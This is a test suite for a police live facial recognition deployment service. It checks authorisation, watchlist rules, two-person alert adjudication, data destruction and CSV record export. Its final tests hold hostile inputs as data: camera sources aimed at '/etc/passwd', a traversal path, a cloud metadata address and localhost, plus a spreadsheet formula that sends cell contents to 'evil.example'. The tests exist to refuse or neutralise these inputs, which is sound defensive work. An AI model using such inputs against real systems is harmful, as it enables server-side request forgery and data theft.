// Live deployments on SQLite and PostgreSQL with the real engine and gallery: authorisation
// (R1, R4, R12, R14, R26 versions, R30), the time box (R2), location changes (R3), the bespoke
// watchlist (R7-R13), alerts and their adjudication (R21, R23), and the record (R24).
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { openTestServices, recordTestAssessments, type TestServices } from '../../test/support/services.ts';
import { testDatabases } from '../../test/support/db.ts';
import { FaceEngine } from '../faces/engine.ts';
import { builtInPacks } from '../faces/packs.ts';
import { DomainError } from '../shared/domain-error.ts';
import { sharedPath } from '../shared/paths.ts';
import { deploymentRecord, recordsToCsv } from './deployment-record.ts';
import { emptyCounts } from './deployment-counts.ts';
import type { DraftInput } from './deployment.service.ts';

const lfw = (name: string, n: number): Buffer =>
  readFileSync(sharedPath('data', 'lfw', 'images', name, `${name}_${String(n).padStart(4, '0')}.jpg`));
const refused = (code: string) => (e: unknown) => e instanceof DomainError && e.code === code;
const problem = (pattern: RegExp) => (e: unknown) =>
  e instanceof DomainError && ((e.details?.['problems'] as string[] | undefined) ?? []).some((p) => pattern.test(p));

let engine: FaceEngine;
before(async () => {
  const [pack] = await builtInPacks();
  engine = await FaceEngine.start({ pack: pack!, workers: 1 });
});
after(() => engine.close());

for (const target of testDatabases()) {
  describe(`live deployments on ${target.name}`, () => {
    let s: TestServices;
    let clock = new Date('2026-11-22T09:00:00Z');
    const subjects: Record<string, string> = {};
    before(async () => {
      s = await openTestServices(await target.open(), engine, {}, () => clock);
      const people: [string, number, string | undefined][] = [
        ['Colin_Powell', 1, undefined],
        ['Jacques_Chirac', 1, undefined],
        ['Donald_Rumsfeld', 1, '2010-05-01'],
      ];
      for (const [name, n, dob] of people) {
        const r = await s.gallery.createSubject(
          {
            reference: name,
            displayName: name,
            dateOfBirth: dob,
            images: [{ bytes: lfw(name, n), source: 'custody', legalBasis: 'PACE s64A', reason: 'arrest' }],
          },
          { username: 'enroller', roles: ['watchlist-manager'] },
        );
        subjects[name] = r.subject.id;
      }
    });
    after(() => s.close());

    /** A file camera in the default camera folder, `<dataDir>/footage` (issue 12). */
    const footage = (name: string) => ({ kind: 'file' as const, path: join(s.dataDir, 'footage', name) });
    const auditOf = (id: string) =>
      s.database.db
        .selectFrom('audit_log')
        .select(['action', 'actor', 'outcome', 'details_json'])
        .where('target_id', '=', id)
        .orderBy('seq')
        .execute();
    /** A deployment with one entry, authorised by someone who compiled nothing. */
    const authorisedOne = async (name: string) => {
      const d = await s.deployments.create(draft({ name }), 'planner');
      await s.watchlists.addEntry(
        d.id,
        { subjectId: subjects['Colin_Powell']!, category: 'wanted by the courts', reason: 'warrant 12' },
        'wl.manager',
      );
      return s.deployments.authorise(d.id, 'proportionate', 'auth.officer');
    };

    const draft = (extra: Partial<DraftInput> = {}): DraftInput => ({
      name: 'Oxford Circus',
      deployment_type: 'overt LFR, van-mounted',
      policing_objective: 'locate people wanted for violent offences',
      intelligence_case: 'robberies near the station, Oct 2026',
      location_name: 'Oxford Circus',
      location_boundary: 'north exit, 50 m radius',
      location_reason: 'wanted people seen here on CCTV',
      planned_start: '2026-11-22T10:00:00Z',
      planned_end: '2026-11-22T16:00:00Z',
      categories: ['wanted by the courts', 'missing or vulnerable'],
      camera_count: 1,
      planned_footfall: 20000,
      threshold: s.thresholdInForce(engine.pack.recognizer.modelId).floor,
      dpia_version: 'DPIA v3.1',
      eia_version: 'EIA v2',
      policy_version: 'LFR policy 2026-01',
      notice: { publishedAt: '2026-11-20T09:00:00Z', signage: 'A-boards at each entrance' },
      ...extra,
    });

    it('R7, R9, R13: entries come from the closed categories the deployment names; under-18s need a reason', async () => {
      const d = await s.deployments.create(draft(), 'planner');
      await assert.rejects(
        s.watchlists.addEntry(
          d.id,
          { subjectId: subjects['Colin_Powell']!, category: 'shoplifting', reason: 'x' },
          'wl.manager',
        ),
        refused('unknown-category'),
      );
      await assert.rejects(
        s.watchlists.addEntry(
          d.id,
          { subjectId: subjects['Colin_Powell']!, category: 'risk of harm', reason: 'x' },
          'wl.manager',
        ),
        refused('category-not-authorised'),
      );
      await assert.rejects(
        s.watchlists.addEntry(
          d.id,
          { subjectId: subjects['Donald_Rumsfeld']!, category: 'missing or vulnerable', reason: 'x' },
          'wl.manager',
        ),
        refused('under-18'),
      );
      const child = await s.watchlists.addEntry(
        d.id,
        {
          subjectId: subjects['Donald_Rumsfeld']!,
          category: 'missing or vulnerable',
          reason: 'missing child',
          under18Override: 'High Court order 123: child at risk',
        },
        'wl.manager',
      );
      assert.equal(child.under18_override, 'High Court order 123: child at risk');
      const entry = await s.watchlists.addEntry(
        d.id,
        { subjectId: subjects['Colin_Powell']!, category: 'wanted by the courts', reason: 'warrant 77' },
        'wl.manager',
      );
      // R8: provenance and quality come with the entry.
      assert.equal(entry.source, 'custody');
      assert.equal(entry.legal_basis, 'PACE s64A');
      assert.equal(JSON.parse(entry.quality_json).passed, true);
      assert.equal(entry.added_by, 'wl.manager');
      assert.ok(entry.template_sealed && entry.image_media_id);
    });

    it('R26, R27: authorisation is refused without the linked DPIA, EIA, policy and a current bias report', async () => {
      const [d] = await s.deployments.list({ limit: 10, offset: 0, status: 'draft' });
      const problems = await s.deployments.authorisationProblems(d!.id, 'auth.officer');
      assert.ok(
        problems.includes('R26: no data protection impact assessment "DPIA v3.1" is on record'),
        problems.join('\n'),
      );
      assert.ok(problems.some((p) => p.startsWith('R26: no equality impact assessment "EIA v2"')));
      assert.ok(problems.some((p) => p.startsWith('R26: no policy document "LFR policy 2026-01"')));
      assert.ok(problems.some((p) => p.startsWith('R27: no current bias report')));
      await recordTestAssessments(s, {
        modelId: engine.pack.recognizer.modelId,
        threshold: d!.threshold,
        dpia: 'DPIA v3.1',
        eia: 'EIA v2',
        policy: 'LFR policy 2026-01',
      });
      const after = await s.deployments.authorisationProblems(d!.id, 'auth.officer');
      assert.ok(!after.some((p) => /^R2[67]/.test(p)), after.join('\n'));
    });

    it('R1, R4, R12, R14, R30: authorisation needs every field, a separate authoriser, and shows the expected false alerts', async () => {
      const incomplete = await s.deployments.create(
        draft({ intelligence_case: ' ', notice: {}, threshold: 0.5 }),
        'planner',
      );
      await assert.rejects(
        s.deployments.authorise(incomplete.id, 'ok', 'auth.officer'),
        problem(/R1: the intelligence case/),
      );
      await assert.rejects(s.deployments.authorise(incomplete.id, 'ok', 'auth.officer'), problem(/R4/));
      await assert.rejects(
        s.deployments.authorise(incomplete.id, 'ok', 'auth.officer'),
        problem(/R14: threshold 0.5 is below/),
      );
      await assert.rejects(
        s.deployments.authorise(incomplete.id, 'ok', 'auth.officer'),
        problem(/R9: the watchlist is empty/),
      );

      const [d] = await s.deployments
        .list({ limit: 10, offset: 0, status: 'draft' })
        .then((l) => l.filter((x) => x.name === 'Oxford Circus' && x.intelligence_case.trim() !== ''));
      await assert.rejects(s.deployments.authorise(d!.id, 'ok', 'wl.manager'), problem(/R30: you added entries/));
      await assert.rejects(s.deployments.authorise(d!.id, 'ok', 'planner'), problem(/R30: you drew up/));
      const forecast = await s.deployments.forecast(d!.id);
      assert.equal(forecast.watchlistSize, 2);
      assert.equal(forecast.footfall, 20000);
      assert.ok(forecast.expectedFalseAlerts > 0 && forecast.expectedFalseAlerts < 20000);
      const authorised = await s.deployments.authorise(d!.id, 'necessary and proportionate', 'auth.officer');
      assert.equal(authorised.status, 'authorised');
      assert.equal(authorised.authorised_by, 'auth.officer');
      const snapshot = JSON.parse(authorised.authorised_json!);
      assert.equal(snapshot.watchlistSize, 2);
      assert.equal(snapshot.expectedFalseAlerts, forecast.expectedFalseAlerts);
    });

    it('R1, R2, R3: goes live only authorised, in its window, with cameras; a location change voids the authorisation', async () => {
      const [d] = await s.deployments.list({ limit: 10, offset: 0, status: 'authorised' });
      await assert.rejects(s.deployments.start(d!.id, 'operator'), problem(/R2: the authorised window opens/));
      clock = new Date('2026-11-22T10:30:00Z');
      await assert.rejects(s.deployments.start(d!.id, 'operator'), problem(/R1: no cameras/));
      await s.deployments.addCamera(d!.id, 'north exit', footage('north.mp4'), 'operator');
      await assert.rejects(
        s.deployments.addCamera(d!.id, 'second', footage('north.mp4'), 'operator'),
        refused('camera-count'),
      );

      const moved = await s.deployments.update(d!.id, { location_name: 'Bond Street' }, 'planner');
      assert.equal(moved.status, 'draft', 'R3: a new location needs a new authorisation');
      await assert.rejects(s.deployments.start(d!.id, 'operator'), problem(/only once authorised/));
      await s.deployments.authorise(d!.id, 'new location reviewed', 'auth.officer');
      // R9: a watchlist changed after sign-off needs a new review too.
      const extra = await s.watchlists.addEntry(
        d!.id,
        { subjectId: subjects['Jacques_Chirac']!, category: 'wanted by the courts', reason: 'late warrant' },
        'wl.manager',
      );
      assert.equal((await s.deployments.get(d!.id)).status, 'draft', 'R9: the authorisation is void');
      await s.watchlists.removeEntry(d!.id, extra.id, 'wl.manager');
      await s.deployments.authorise(d!.id, 'watchlist re-reviewed', 'auth.officer');
      const live = await s.deployments.start(d!.id, 'operator');
      assert.equal(live.status, 'live');

      const draftOnly = await s.deployments.create(draft(), 'planner');
      await assert.rejects(s.deployments.start(draftOnly.id, 'operator'), refused('cannot-start'));
    });

    it('R21, R23: an alert records what an operator needs and takes the decisions of two people', async () => {
      const [d] = await s.deployments.list({ limit: 10, offset: 0, status: 'live' });
      const [camera] = await s.deployments.cameras(d!.id);
      const [entry] = await s.watchlists.entries(d!.id);
      const events: string[] = [];
      const unsubscribe = s.alerts.subscribe(d!.id, (e) => events.push(e.type));
      const alert = await s.alerts.raise({
        deploymentId: d!.id,
        cameraId: camera!.id,
        capturedAt: Date.parse('2026-11-22T10:31:00Z'),
        score: 0.95,
        threshold: d!.threshold,
        trackFrames: 3,
        entry: entry!,
        probeCrop: lfw('Colin_Powell', 2),
        reference: await s.watchlists.entryImage(entry!),
      });
      assert.deepEqual(events, ['alert']);
      assert.equal(alert.threshold, d!.threshold);
      assert.equal(alert.category, entry!.category);
      assert.deepEqual(await s.alerts.image(alert.id, 'probe', 'operator'), lfw('Colin_Powell', 2));
      await assert.rejects(
        s.alerts.engage(alert.id, { engaged: true, outcome: 'arrest' }, 'eo'),
        refused('operator-first'),
      );
      const decided = await s.alerts.adjudicate(alert.id, 'confirm', 'operator');
      assert.equal(decided.operator_decision, 'confirm');
      assert.ok((decided.decision_ms ?? -1) >= 0);
      await assert.rejects(s.alerts.adjudicate(alert.id, 'reject', 'operator'), refused('already-decided'));
      await assert.rejects(
        s.alerts.engage(alert.id, { engaged: true, outcome: 'arrest' }, 'operator'),
        refused('two-person'),
        'R22: two different people',
      );
      const engaged = await s.alerts.engage(alert.id, { engaged: true, outcome: 'arrest' }, 'eo');
      assert.equal(engaged.outcome, 'arrest');
      assert.deepEqual(events, ['alert', 'alert-updated', 'alert-updated']);
      unsubscribe();

      const wrong = await s.alerts.raise({
        deploymentId: d!.id,
        cameraId: camera!.id,
        capturedAt: Date.parse('2026-11-22T10:40:00Z'),
        score: 0.93,
        threshold: d!.threshold,
        trackFrames: 2,
        entry: entry!,
        probeCrop: lfw('Jacques_Chirac', 2),
        reference: undefined,
      });
      await s.alerts.adjudicate(wrong.id, 'reject', 'operator');
      await s.deployments.addCounts(d!.id, {
        facesSeen: 1000,
        facesCompared: 800,
        tracks: 300,
        alerts: 2,
        dropped: { blurred: 200 },
      });
    });

    it('R10, R11, R6, R24: closing destroys the watchlist and keeps a manifest; the record has the published columns', async () => {
      const [d] = await s.deployments.list({ limit: 10, offset: 0, status: 'live' });
      const closed = await s.deployments.close(d!.id, 'operator', 'stopped');
      assert.equal(closed.status, 'closed');
      const entries = await s.watchlists.entries(d!.id);
      assert.ok(entries.length === 2 && entries.every((e) => e.template_sealed === null && e.image_media_id === null));
      const manifest = JSON.parse(closed.manifest_json!) as { subjectId: string }[];
      assert.deepEqual(
        manifest.map((m) => m.subjectId).sort(),
        [subjects['Colin_Powell'], subjects['Donald_Rumsfeld']].sort(),
      );
      assert.ok(!/vector|template|media/i.test(closed.manifest_json!));
      await assert.rejects(
        s.watchlists.addEntry(
          d!.id,
          { subjectId: subjects['Jacques_Chirac']!, category: 'wanted by the courts', reason: 'x' },
          'wl',
        ),
        refused('watchlist-frozen'),
      );

      const reviewed = await s.deployments.review(d!.id, { summary: 'one arrest, one false alert' }, 'auth.officer');
      assert.equal(reviewed.status, 'reviewed');
      const alerts = await s.alerts.list(d!.id, { limit: 100, offset: 0 });
      const record = deploymentRecord(reviewed, alerts, 1, await s.deployments.counts(d!.id));
      assert.equal(record.totalAlerts, 2);
      assert.equal(record.positiveAlerts, 1);
      assert.equal(record.incorrectAlerts, 1);
      assert.equal(record.positiveInterventions, 1);
      assert.equal(record.incorrectInterventions, 0);
      assert.equal(record.arrestsOrDisposals, 1);
      assert.equal(record.facesSeen, 1000);
      assert.equal(record.incorrectAlertRate, 1 / 1000);
      assert.equal(record.watchlistSize, 2);
      const csv = recordsToCsv([record]);
      assert.match(
        csv.split('\r\n')[0]!,
        /^Deployment,Date,Type,Duration \(minutes\),Cameras,Watchlist size,Threshold,Total alerts/,
      );
    });

    it('R20: a refused authorisation stops use and deletes every input and output', async () => {
      const d = await s.deployments.create(draft({ name: 'to be refused' }), 'planner');
      await s.watchlists.addEntry(
        d.id,
        { subjectId: subjects['Jacques_Chirac']!, category: 'wanted by the courts', reason: 'warrant 9' },
        'wl.manager',
      );
      await s.deployments.addCamera(d.id, 'cam', footage('north.mp4'), 'planner');
      await s.deployments.authorise(d.id, 'urgent', 'auth.officer');
      await s.deployments.start(d.id, 'operator');
      const [entry] = await s.watchlists.entries(d.id);
      const [camera] = await s.deployments.cameras(d.id);
      const alert = await s.alerts.raise({
        deploymentId: d.id,
        cameraId: camera!.id,
        capturedAt: clock.getTime(),
        score: 0.95,
        threshold: d.threshold,
        trackFrames: 2,
        entry: entry!,
        probeCrop: lfw('Jacques_Chirac', 2),
        reference: await s.watchlists.entryImage(entry!),
      });
      await assert.rejects(s.deployments.refuse(d.id, 'no', 'auth.officer'), refused('reason-required'));
      const refusedRow = await s.deployments.refuse(d.id, 'the judge refused the urgent authorisation', 'auth.officer');
      assert.equal(refusedRow.status, 'closed');
      assert.equal(refusedRow.close_reason, 'refused');
      assert.deepEqual(await s.alerts.list(d.id, { limit: 10, offset: 0 }), []);
      await assert.rejects(s.media.get(alert.probe_media_id!), /does not exist/);
      await assert.rejects(s.media.get(entry!.image_media_id!), /does not exist/);
      const entries = await s.watchlists.entries(d.id);
      assert.ok(entries.every((e) => e.template_sealed === null && e.image_media_id === null));
    });

    it('issue 12: a camera reads only from the configured folders and hosts; a refused source is audited', async () => {
      const d = await s.deployments.create(draft({ name: 'camera sources', camera_count: 4 }), 'planner');
      for (const [source, reason] of [
        [{ kind: 'file', path: '/etc/passwd' }, 'path-not-allowed'],
        [{ kind: 'folder', path: join(s.dataDir, 'secrets') }, 'path-forbidden'],
        [{ kind: 'file', path: join(s.dataDir, 'footage', '..', 'secrets', 'media.key') }, 'path-forbidden'],
        [{ kind: 'http', url: 'http://169.254.169.254/latest/meta-data/' }, 'address-forbidden'],
        [{ kind: 'http', url: 'http://127.0.0.1:8080/v1/users' }, 'self-address'],
        [{ kind: 'rtsp', url: 'rtsp://cam1.example.org/stream' }, 'host-not-allowed'],
      ] as const) {
        await assert.rejects(
          s.deployments.addCamera(d.id, 'cam', source, 'planner'),
          (e: unknown) =>
            e instanceof DomainError && e.code === 'camera-source-refused' && e.details?.['reason'] === reason,
          JSON.stringify(source),
        );
      }
      assert.deepEqual(await s.deployments.cameras(d.id), []);
      const refusals = (await auditOf(d.id)).filter((a) => a.action === 'camera.refused');
      assert.equal(refusals.length, 6);
      assert.ok(refusals.every((a) => a.outcome === 'denied' && a.actor === 'planner'));
      assert.ok(!refusals.some((a) => a.details_json.includes('169.254') || a.details_json.includes('passwd')));
      await s.deployments.addCamera(d.id, 'ok', footage('street.mp4'), 'planner');
    });

    it('issue 12, R30: whoever ever added to the watchlist may not authorise it, even once their entries are gone', async () => {
      const d = await s.deployments.create(draft({ name: 'removed compiler' }), 'planner');
      const mine = await s.watchlists.addEntry(
        d.id,
        { subjectId: subjects['Colin_Powell']!, category: 'wanted by the courts', reason: 'warrant 30' },
        'wl.first',
      );
      await s.watchlists.addEntry(
        d.id,
        { subjectId: subjects['Jacques_Chirac']!, category: 'wanted by the courts', reason: 'warrant 31' },
        'wl.second',
      );
      await s.watchlists.removeEntry(d.id, mine.id, 'wl.second');
      assert.ok(!(await s.watchlists.entries(d.id)).some((e) => e.added_by === 'wl.first'));
      await assert.rejects(s.deployments.authorise(d.id, 'ok', 'wl.first'), problem(/R30: you added entries/));
      await assert.rejects(s.deployments.authorise(d.id, 'ok', 'wl.second'), problem(/R30: you added entries/));
      assert.equal((await s.deployments.authorise(d.id, 'ok', 'auth.officer')).status, 'authorised');
    });

    it('issue 12, R3: an update changes only what differs; a no-op records nothing; a new name keeps the authorisation', async () => {
      const d = await authorisedOne('partial update');
      const before = await auditOf(d.id);
      const same = await s.deployments.update(
        d.id,
        {
          location_name: d.location_name,
          notice: JSON.parse(d.notice_json),
          categories: JSON.parse(d.categories_json),
        },
        'planner',
      );
      assert.deepEqual(same, d, 'nothing changed');
      assert.equal((await auditOf(d.id)).length, before.length, 'a no-op records nothing');

      const renamed = await s.deployments.update(d.id, { name: 'partial update (renamed)' }, 'planner');
      assert.equal(renamed.status, 'authorised', 'the name is not what was authorised');
      assert.equal(renamed.authorised_json, d.authorised_json);
      assert.equal(renamed.location_name, d.location_name);

      const moved = await s.deployments.update(d.id, { location_name: 'Bond Street' }, 'planner');
      assert.equal(moved.status, 'draft', 'R3: a new location needs a new authorisation');
      assert.equal(moved.name, 'partial update (renamed)');
      const voided = (await auditOf(d.id)).find((a) => a.action === 'deployment.authorisation-voided');
      assert.deepEqual(JSON.parse(voided!.details_json)['fields'], ['location_name']);
    });

    it('issue 12: going live re-checks the camera sources against the rules in force', async () => {
      const d = await authorisedOne('rules changed');
      clock = new Date('2026-11-22T10:30:00Z');
      // A camera stored before the rules (as an older installation may hold one).
      await s.database.db
        .insertInto('cameras')
        .values({
          id: '00000000-0000-4000-8000-000000000012',
          deployment_id: d.id,
          name: 'old',
          source_json: JSON.stringify({ kind: 'file', path: '/etc/passwd' }),
          created_at: new Date().toISOString(),
          gaps_json: '[]',
        })
        .execute();
      await assert.rejects(
        s.deployments.start(d.id, 'operator'),
        problem(/camera "old": its source is not allowed \(path-not-allowed\)/),
      );
    });

    it('issue 12: the deployment record CSV neutralises formula-led text', async () => {
      const d = await s.deployments.create(
        draft({ name: '=HYPERLINK("http://evil.example/?"&A1,"x")', deployment_type: '+overt LFR' }),
        'planner',
      );
      const [, row] = recordsToCsv([deploymentRecord(d, [], [], emptyCounts)]).split('\r\n');
      assert.match(row!, /^"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1,""x""\)",/);
      assert.match(row!, /,'\+overt LFR,/);
    });
  });
}
